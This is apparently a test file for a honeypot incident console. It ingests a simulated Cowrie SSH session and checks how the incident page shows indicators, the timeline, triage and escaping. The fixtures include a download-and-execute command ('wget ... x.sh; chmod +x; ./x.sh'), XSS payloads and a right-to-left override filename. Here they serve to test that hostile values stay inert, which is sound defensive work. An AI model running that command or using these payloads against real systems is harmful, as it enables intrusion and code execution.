import { afterAll, beforeAll, expect, test } from "bun:test"
import { mkdirSync, mkdtempSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { SqlClient } from "@effect/sql"
import { Effect } from "effect"
import { IncidentPage } from "../../src/console/incidents/incidentPage.tsx"
import { countIndicators, INDICATORS_SHOWN, type IncidentIndicators } from "../../src/domain/indicators.ts"
import type { Incident } from "../../src/domain/models.ts"
import { EventsRepo } from "../../src/repos/EventsRepo.ts"
import { IncidentIndicatorsRepo } from "../../src/repos/IncidentIndicatorsRepo.ts"
import {
  type Browser,
  type Page,
  type PageWatch,
  screenshot,
  seriousAccessibilityViolations,
} from "../support/browser.ts"
import { adminAndAnalyst, freePort } from "../support/console.ts"
import { type TestDatabase, testDatabase } from "../support/db.ts"
import { createSensor, createTenant, get, idOf } from "../support/fixtures.ts"
import { ingest, nativeEvent } from "../support/ingest.ts"
import { type RunningServer, shutdown, startServer, testEnv } from "../support/server.ts"

/**
 * The incident page as an analyst reads it, in a real Chromium on the real server and database: a Cowrie session
 * (login attempts with many usernames, a login, commands fetching a URL, a download and an upload with hashes, the SSH
 * client's version and HASSH) leads with its triage head, then its indicators, each a link to the console's search,
 * then a timeline whose run of login attempts is one line that opens to its events; history, notes and Close come
 * last. Hostile values stay inert text; the indicators are counted in SQL over every member event, the same as in
 * memory, and stay bounded for an incident of 30,000 events.
 */

const RUN = Date.now().toString(36)
const ADMIN_EMAIL = `lead-${RUN}@incident.example`
const ANALYST_EMAIL = `analyst-${RUN}@incident.example`
const PASSWORD = "correct horse battery staple"
const SOURCE = "203.0.113.66"
const WGET_URL = "http://198.51.100.7/bins/x.sh"
const SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
const UPLOAD_SHA = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
const HASSH = "b5752e36ba6c5979a575e43178908adf"
const CLIENT = "SSH-2.0-Go"
const TRIED = ["hunter2", "123456", "letmein"]
const LONG = `echo ${"A".repeat(5000)}`
const RTL = "\u202Egnp.exe"
const HOSTILE_USER = `<script>window.__xss = 1</script>"'`
const HOSTILE_CMD = `"'><img src=x onerror="window.__xss=2"> ${RTL}`

let server: RunningServer
let db: TestDatabase
let browser: Browser
let consoleUrl: string
let tenant: { orgId: string; key: string }
let sensor: { id: string; token: string }
let admin: { page: Page; watch: PageWatch }
let analyst: { page: Page; watch: PageWatch }
let cowrieIncident: string
let hostileIncident: string

const shots = mkdtempSync(join(tmpdir(), "incident-page-"))

/** A part of the page as a screenshot, written where `screenshot` writes (docs/screenshots with UPDATE_SCREENSHOTS=1). */
const partShot = async (page: Page, selector: string, name: string) => {
  const target =
    process.env.UPDATE_SCREENSHOTS === "1" ? join(import.meta.dir, "..", "..", "docs", "screenshots") : shots
  mkdirSync(target, { recursive: true })
  await page.locator(selector).screenshot({ path: join(target, `${name}.png`) })
}

const sql = <A>(f: (sql: SqlClient.SqlClient) => Effect.Effect<A, unknown>) =>
  db.run(Effect.flatMap(SqlClient.SqlClient, f) as Effect.Effect<A, never, never>)

/** The repository's indicators; `withinMs` bounds the reads (the page's own bound is INDICATORS_WITHIN_MS). */
const indicatorsOf = (incidentId: string, withinMs?: number): Promise<IncidentIndicators> =>
  db.run(
    Effect.flatMap(IncidentIndicatorsRepo, (r) =>
      r.forIncident(idOf("organization", tenant.orgId), idOf("incident", incidentId), undefined, withinMs),
    ),
  )

/** Cowrie's JSON log lines of one session, a tenth of a second apart, ending a minute ago. */
const cowrieSession = (): Array<Record<string, unknown>> => {
  const session = `s${RUN}`.slice(0, 12)
  const start = Date.now() - 120_000
  let tick = 0
  const line = (eventid: string, extra: Record<string, unknown> = {}) => ({
    session,
    protocol: "ssh",
    src_ip: SOURCE,
    src_port: 41022,
    dst_ip: "10.0.0.5",
    dst_port: 22,
    eventid,
    sensor: "cowrie-01",
    timestamp: new Date(start + tick++ * 100).toISOString().replace("Z", "000Z"),
    message: eventid,
    ...extra,
  })
  const usernames = [
    ...Array(9).fill("root"),
    ...Array(6).fill("admin"),
    ...Array.from({ length: 15 }, (_, i) => `u${i}`),
  ]
  return [
    line("cowrie.session.connect"),
    line("cowrie.client.version", { version: CLIENT }),
    line("cowrie.client.kex", { hassh: HASSH, hasshAlgorithms: "curve25519-sha256;aes128-ctr;hmac-sha2-256;none" }),
    ...usernames.map((username, i) => line("cowrie.login.failed", { username, password: TRIED[i % TRIED.length] })),
    line("cowrie.login.success", { username: "root", password: "toor" }),
    line("cowrie.command.input", { input: "uname -a" }),
    line("cowrie.command.input", { input: `cd /tmp; wget ${WGET_URL}; chmod +x x.sh; ./x.sh` }),
    line("cowrie.session.file_download", { url: WGET_URL, shasum: SHA, outfile: `var/lib/cowrie/downloads/${SHA}` }),
    line("cowrie.session.file_upload", { filename: "bot.arm7", destfile: "/tmp/bot.arm7", shasum: UPLOAD_SHA }),
    line("cowrie.session.closed", { duration: 12.5 }),
  ]
}

beforeAll(async () => {
  const port = freePort()
  consoleUrl = `http://127.0.0.1:${port}`
  server = await startServer({ env: await testEnv({ CONSOLE_PORT: String(port), APP_URL: consoleUrl }) })
  db = testDatabase(server.env)
  tenant = await createTenant(db, `Incident page ${RUN}`)
  sensor = (await createSensor(db, tenant.orgId, "cowrie-01")) as { id: string; token: string }
  const sent = await ingest(server.ingestUrl, "cowrie", sensor.token, cowrieSession())
  expect(sent.status).toBe(200)
  cowrieIncident = sent.body.results[0].incidentId as string
  const hostile = await ingest(server.ingestUrl, "events", sensor.token, [
    nativeEvent({ sourceIp: "198.51.100.99", attackerInput: { username: HOSTILE_USER, password: "x" } }),
    nativeEvent({ sourceIp: "198.51.100.99", type: "ssh.command", attackerInput: { command: HOSTILE_CMD } }),
    nativeEvent({ sourceIp: "198.51.100.99", type: "ssh.command", attackerInput: { command: LONG } }),
    nativeEvent({
      sourceIp: "198.51.100.99",
      type: "ssh.file_download",
      attackerInput: { url: `javascript:alert(3)//${RTL}`, shasum: `"><svg onload=alert(4)>` },
    }),
  ])
  expect(hostile.status).toBe(200)
  hostileIncident = hostile.body.results[0].incidentId as string
  ;({ browser, admin, analyst } = await adminAndAnalyst(server.env, consoleUrl, {
    orgId: tenant.orgId,
    admin: ADMIN_EMAIL,
    analyst: ANALYST_EMAIL,
    password: PASSWORD,
  }))
}, 180_000)

afterAll(async () => {
  await browser?.close()
  await shutdown(server, db)
})

/** The ids of the page's landmarks, in document order. */
const order = (page: Page, selectors: ReadonlyArray<string>) =>
  page.evaluate((list) => {
    const doc = (globalThis as unknown as { document: { querySelector: (s: string) => unknown } }).document
    const at = list.map((s) => doc.querySelector(s) as { compareDocumentPosition: (o: unknown) => number } | null)
    return at.every(
      (node, k) => node !== null && (k === 0 || ((at[k - 1]?.compareDocumentPosition(node) ?? 0) & 4) === 4),
    )
  }, selectors)

test("a Cowrie session leads with its triage head, then indicators linked to the search, then the timeline with its login attempts in one run; history, notes and Close last", async () => {
  const { page, watch } = analyst
  const response = await page.goto(`${consoleUrl}/incidents/${cowrieIncident}`)
  expect(response?.status()).toBe(200)
  expect(
    await order(page, ["h1", "#triage", "dl.facts a[href^='/sources/']", "#indicators", "#timeline", "#close"]),
  ).toBe(true)
  // Triage: nobody owns it, nobody acknowledged it; both forms carry the session's token.
  expect(await page.textContent("#owner")).toBe("Unassigned")
  expect(await page.textContent("#acknowledged")).toBe("Not yet")
  expect(await page.getAttribute("form#acknowledge", "action")).toBe(`/incidents/${cowrieIncident}/acknowledge`)
  expect(await page.getAttribute("form#assign", "action")).toBe(`/incidents/${cowrieIncident}/assign`)
  for (const form of ["form#acknowledge", "form#assign"]) {
    expect(await page.getAttribute(`${form} input[name=csrf]`, "value")).toBeTruthy()
    expect(await page.getAttribute(form, "method")).toBe("post")
  }

  // Indicators: each kind with its values and counts, each value a link to the search for it.
  const items = (kind: string) =>
    page.$$eval(`#ind-${kind} li`, (lis) => lis.map((li) => (li.textContent ?? "").replace(/\s+/g, " ").trim()))
  expect((await items("usernames")).slice(0, 2)).toEqual(["root ×10", "admin ×6"])
  expect(await page.textContent("#ind-usernames h3")).toContain("(17)")
  expect(await items("urls")).toEqual([`${WGET_URL} ×2`])
  expect(await items("commands")).toContain("uname -a ×1")
  expect((await items("hashes")).sort()).toEqual([`SHA-256 ${SHA} ×1`, `SHA-256 ${UPLOAD_SHA} ×1`].sort())
  expect(await items("files")).toEqual(["/tmp/bot.arm7 ×1", "bot.arm7 ×1"])
  const clients = await items("clients")
  expect(clients.some((c) => c.startsWith(`SSH client version ${CLIENT} ×`))).toBe(true)
  expect(clients.some((c) => c.startsWith(`HASSH ${HASSH} ×`))).toBe(true)
  // Passwords: a fingerprint and a length, never the password.
  const passwords = await items("passwords")
  expect(passwords).toHaveLength(4)
  for (const p of passwords) expect(p).toMatch(/^[0-9a-f]{32} fingerprint of a password of \d characters ×\d+$/)
  const html = await page.content()
  for (const secret of [...TRIED, "toor"]) expect(html).not.toContain(secret)
  const links = await page.$$eval("#indicators a", (as) => as.map((a) => a.getAttribute("href") ?? ""))
  expect(links.length).toBeGreaterThan(10)
  expect(links.every((href) => href.startsWith("/incidents?q="))).toBe(true)
  expect(links).toContain(`/incidents?q=${encodeURIComponent(WGET_URL)}`)
  expect(await page.$$("#indicators a > code.atk")).toHaveLength(links.length)

  // The timeline: the 30 login attempts are one run, closed, naming the usernames; opened, its 30 events.
  const run = page.locator("tr.ind-run")
  expect(await run.count()).toBe(1)
  const line = ((await run.locator("summary").first().textContent()) ?? "").replace(/\s+/g, " ")
  expect(line).toContain("30 × SSH login attempt")
  expect(line).toContain("17 usernames: root ×9, admin ×6,")
  expect(line).toContain("and 12 more")
  expect(await run.locator("details.ind-run-events").getAttribute("open")).toBeNull()
  expect(await run.locator("tbody tr[id]").first().isVisible()).toBe(false)
  await run.locator("summary").first().click()
  expect(await run.locator("tbody tr[id]").count()).toBe(30)
  expect(await run.locator("tbody tr[id]").first().isVisible()).toBe(true)
  // The events around it stay rows of their own: connect, login, commands, download, upload.
  expect(await page.locator("#timeline + .table-wrap > table > tbody > tr[id^=evt_]").count()).toBe(6)
  expect(await seriousAccessibilityViolations(page)).toEqual([])
  await run.locator("summary").first().click()
  await screenshot(page, "incident", shots)
  await partShot(page, "#indicators", "incident-indicators")
  expect(watch.errors).toEqual([])
  expect(watch.violations).toEqual([])
})

test("the repository counts indicators over every member event in SQL, as the same rules count them in memory", async () => {
  const fromSql = await indicatorsOf(cowrieIncident)
  const members = await db.run(
    Effect.flatMap(EventsRepo, (r) =>
      r.members(idOf("organization", tenant.orgId), idOf("incident", cowrieIncident), 100_000),
    ),
  )
  expect(fromSql.events).toBe(members.length)
  expect(fromSql).toEqual(countIndicators(members))
  expect(fromSql.groups.map((g) => g.kind)).toEqual([
    "commands",
    "urls",
    "files",
    "hashes",
    "usernames",
    "passwords",
    "clients",
  ])
  // Another organization's incident id reads as nothing.
  const other = await createTenant(db, `Incident page other ${RUN}`)
  const none = await db.run(
    Effect.flatMap(IncidentIndicatorsRepo, (r) =>
      r.forIncident(idOf("organization", other.orgId), idOf("incident", cowrieIncident)),
    ),
  )
  expect(none).toEqual({ groups: [], events: 0 })
})

test("the page with the repository's indicators and the organization's users: the assign select lists them, the owner and acknowledgement read as given", async () => {
  const api = await get(server.url, `/v1/incidents/${cowrieIncident}`, tenant.key)
  expect(api.status).toBe(200)
  const body = api.body as Incident
  const incident: Incident = {
    ...body,
    firstSeenAt: new Date(body.firstSeenAt),
    lastSeenAt: new Date(body.lastSeenAt),
    events: body.events.map((e) => ({ ...e, time: new Date(e.time) })),
    assignee: ANALYST_EMAIL,
    acknowledgedAt: new Date("2026-11-26T08:00:00Z"),
  }
  const html = String(
    IncidentPage({
      viewer: { email: ADMIN_EMAIL, role: "admin", csrfToken: "tok" },
      incident,
      more: undefined,
      now: new Date("2026-11-26T09:00:00Z"),
      flash: undefined,
      users: [
        { id: "usr_A", email: ADMIN_EMAIL },
        { id: "usr_B", email: ANALYST_EMAIL },
      ],
      acknowledgedBy: ADMIN_EMAIL,
      indicators: await indicatorsOf(cowrieIncident),
    }),
  )
  expect(html).toContain(`<dd id="owner">${ANALYST_EMAIL}</dd>`)
  expect(html).toMatch(new RegExp(`<dd id="acknowledged"><time[^>]*>.*</time> by ${ADMIN_EMAIL}</dd>`))
  expect(html).not.toContain('id="acknowledge"')
  expect(html).toContain(`<option value="usr_B" selected="">${ANALYST_EMAIL}</option>`)
  expect(html).toContain(`<option value="usr_A">${ADMIN_EMAIL}</option>`)
  expect(html).toContain(`From all ${body.eventCount} events of this incident.`)
})

test("hostile values in indicators and the timeline stay inert text, boxed; links only ever go to the search", async () => {
  const { page, watch } = admin
  await page.goto(`${consoleUrl}/incidents/${hostileIncident}`)
  expect(await page.evaluate(() => (globalThis as unknown as { __xss?: number }).__xss)).toBeUndefined()
  expect(await page.$$("main script, main img, main svg, [onerror], [onload]")).toHaveLength(0)
  const boxed = await page.$$eval("#indicators code.atk", (cs) => cs.map((c) => c.textContent ?? ""))
  expect(boxed).toContain(HOSTILE_USER)
  // The RTL override is removed at ingestion: nowhere on the page, the rest kept as text.
  expect(await page.content()).not.toContain("\u202E")
  expect(boxed).toContain(HOSTILE_CMD.replace("\u202E", ""))
  expect(boxed).toContain('"><svg onload=alert(4)>')
  // A 5 KB command (stored cut to 4096 characters): its start in the list, the rest behind a <details>.
  const long = page.locator("#ind-commands li", { hasText: "AAAA" })
  expect(((await long.locator("a code.atk").textContent()) ?? "").length).toBeLessThan(130)
  expect(await long.locator("details.long summary").textContent()).toContain(
    "4096 characters, cut: show the first 2000",
  )
  const hrefs = await page.$$eval("main a", (as) => as.map((a) => a.getAttribute("href") ?? ""))
  expect(hrefs.filter((h) => /^\s*javascript:/i.test(h))).toEqual([])
  const search = await page.$$eval("#indicators a", (as) => as.map((a) => a.getAttribute("href") ?? ""))
  expect(search).toContain(`/incidents?q=${encodeURIComponent("javascript:alert(3)//gnp.exe")}`)
  expect(search.every((h) => h.startsWith("/incidents?q="))).toBe(true)
  expect(await seriousAccessibilityViolations(page)).toEqual([])
  expect(watch.errors).toEqual([])
  expect(watch.violations).toEqual([])
})

test("an incident of 30,000 events: the indicators are counted in SQL over all of them and stay bounded, and the page stays small", async () => {
  const ROWS = 30_000
  await sql(
    (s) => s`
    insert into events (id, org_id, incident_id, sensor_id, sensor_event_id, time, source_ip, source_port, service,
      port, type, action, severity, confidence, tags, summary, attacker_input, received_at)
    select 'evt_' || upper(substr(md5(g::text || ${RUN}), 1, 26)), ${tenant.orgId}, ${cowrieIncident}, ${sensor.id},
      'bulk-' || ${RUN} || '-' || g, now() - interval '3 minutes' + g * interval '1 millisecond', ${SOURCE}, 41022,
      'ssh', 22, case when g % 2 = 0 then 'ssh.login_attempt' else 'ssh.command' end,
      case when g % 2 = 0 then 'login_attempt' else 'command' end, 'medium', 'normal', '{}',
      ${`SSH activity from ${SOURCE}`},
      case when g % 2 = 0
        then jsonb_build_object('username', 'user' || ((g / 2) % 5000), 'password', jsonb_build_object('masked', '******',
          'length', 6, 'fingerprint', md5(((g / 2) % 300)::text)), 'clientVersion', ${CLIENT}::text)
        else jsonb_build_object('command', 'wget http://192.0.2.' || (g % 250) || '/p' || g, 'clientVersion', ${CLIENT}::text)
      end, now()
    from generate_series(1, ${ROWS}) g`,
  )
  await sql((s) => s`update incidents set event_count = event_count + ${ROWS} where id = ${cowrieIncident}`)

  // Counted without the page's time bound here (a loaded test machine is slower than the bound allows); a bound
  // too short for the work is refused by PostgreSQL, and the page then counts only the events it shows.
  await expect(indicatorsOf(cowrieIncident, 1)).rejects.toThrow()
  const started = performance.now()
  const indicators = await indicatorsOf(cowrieIncident, 120_000)
  const took = performance.now() - started
  const group = (kind: string) => indicators.groups.find((g) => g.kind === kind)
  expect(indicators.events).toBeGreaterThan(ROWS)
  for (const g of indicators.groups) expect(g.shown.length).toBeLessThanOrEqual(INDICATORS_SHOWN)
  expect(group("commands")?.distinct).toBe(ROWS / 2 + 2)
  expect(group("usernames")?.distinct).toBe(5000 + 17)
  expect(group("passwords")?.distinct).toBe(300 + 4)
  // Every command fetched a URL: 50,000 distinct ones, the session's own counted twice.
  expect(group("urls")?.distinct).toBe(ROWS / 2 + 1)
  expect(group("clients")?.shown[0]).toMatchObject({ value: CLIENT, label: "SSH client version" })
  expect(group("clients")?.shown[0]?.count).toBeGreaterThanOrEqual(ROWS)
  console.info(`indicators of ${indicators.events} events read in ${Math.round(took)} ms`)

  // The page through the route, and the page with these indicators: each under 2 MB, saying what was left out.
  const response = await analyst.page.goto(`${consoleUrl}/incidents/${cowrieIncident}`)
  expect(response?.status()).toBe(200)
  expect(((await response?.body()) ?? Buffer.alloc(0)).length).toBeLessThan(2_000_000)
  expect(await analyst.page.textContent(".left-out")).toMatch(/\d+ more events not shown here/)
  const api = await get(server.url, `/v1/incidents/${cowrieIncident}`, tenant.key)
  const body = api.body as Incident
  const html = String(
    IncidentPage({
      viewer: { email: ANALYST_EMAIL, role: "analyst", csrfToken: "tok" },
      incident: { ...body, events: body.events.map((e) => ({ ...e, time: new Date(e.time) })) },
      more: `/events?incidentId=${cowrieIncident}`,
      now: new Date(),
      flash: undefined,
      indicators,
    }),
  )
  expect(html.length).toBeLessThan(2_000_000)
  expect(html).toContain(`and ${ROWS / 2 + 2 - INDICATORS_SHOWN} more values`)
  expect(html).toContain(`From all ${body.eventCount} events of this incident.`)
}, 180_000)
